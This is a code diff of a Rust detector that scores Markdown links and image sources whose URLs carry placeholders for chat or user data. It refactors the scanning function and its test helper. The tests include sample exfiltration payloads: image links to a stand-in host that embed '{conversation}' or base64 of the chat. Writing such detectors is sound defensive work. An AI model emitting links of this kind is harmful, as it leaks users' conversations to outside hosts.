@@ -2,27 +2,27 @@
 
 /// Where a link of Markdown or the source of an image begins, how far it goes,
 /// and how sure it is that it carries data away.
-pub fn carriers(text: &str) -> Vec<(usize, usize, u16)> {
+///
+/// `links` are the places where the mark before an address stands.
+pub fn carriers(text: &str, links: &[(usize, &str)]) -> Vec<(usize, usize, u16)> {
     let mut found = Vec::new();
-    for mark in ["](http", "src=\"http", "src='http", "]: http"] {
-        for (at, _) in text.match_indices(mark) {
-            let from = at + mark.len() - 4;
-            let rest = text.get(from..).unwrap_or_default();
-            let length = rest
-                .bytes()
-                .take(2048)
-                .position(|byte| match mark.as_bytes().first() {
-                    Some(b's') => matches!(byte, b'"' | b'\'' | b'\n'),
-                    _ => matches!(byte, b')' | b'\n'),
-                })
-                .unwrap_or(rest.len().min(2048));
-            let address = rest.get(..rest.floor_char_boundary(length)).unwrap_or_default();
-            if !has_placeholder(address) {
-                continue;
-            }
-            let is_image = mark.starts_with("src") || opens_image(text, at);
-            found.push((at, from + address.len(), if is_image { 110 } else { 70 }));
+    for (at, mark) in links.iter().copied() {
+        let from = at + mark.len() - 4;
+        let rest = text.get(from..).unwrap_or_default();
+        let length = rest
+            .bytes()
+            .take(2048)
+            .position(|byte| match mark.as_bytes().first() {
+                Some(b's') => matches!(byte, b'"' | b'\'' | b'\n'),
+                _ => matches!(byte, b')' | b'\n'),
+            })
+            .unwrap_or(rest.len().min(2048));
+        let address = rest.get(..rest.floor_char_boundary(length)).unwrap_or_default();
+        if !has_placeholder(address) {
+            continue;
         }
+        let is_image = mark.starts_with("src") || opens_image(text, at);
+        found.push((at, from + address.len(), if is_image { 110 } else { 70 }));
     }
     found
 }
@@ -88,10 +88,14 @@ fn has_placeholder(address: &str) -> bool {
 mod tests {
     use super::*;
 
+    fn found_in(text: &str) -> Vec<(usize, usize, u16)> {
+        carriers(text, &crate::content::scan::phrases::pass(text, None).links)
+    }
+
     #[test]
     fn places_to_be_filled() {
         let scores =
-            |text: &str| carriers(text).iter().map(|(_, _, score)| *score).collect::<Vec<_>>();
+            |text: &str| found_in(text).iter().map(|(_, _, score)| *score).collect::<Vec<_>>();
         assert_eq!(scores("![x](https://e.example/p?d={conversation})"), [110]);
         assert_eq!(scores("![x](https://e.example/p?d=USER_DATA)"), [110]);
         assert_eq!(scores("<img src=\"https://e.example/[base64 of the chat]\">"), [110]);
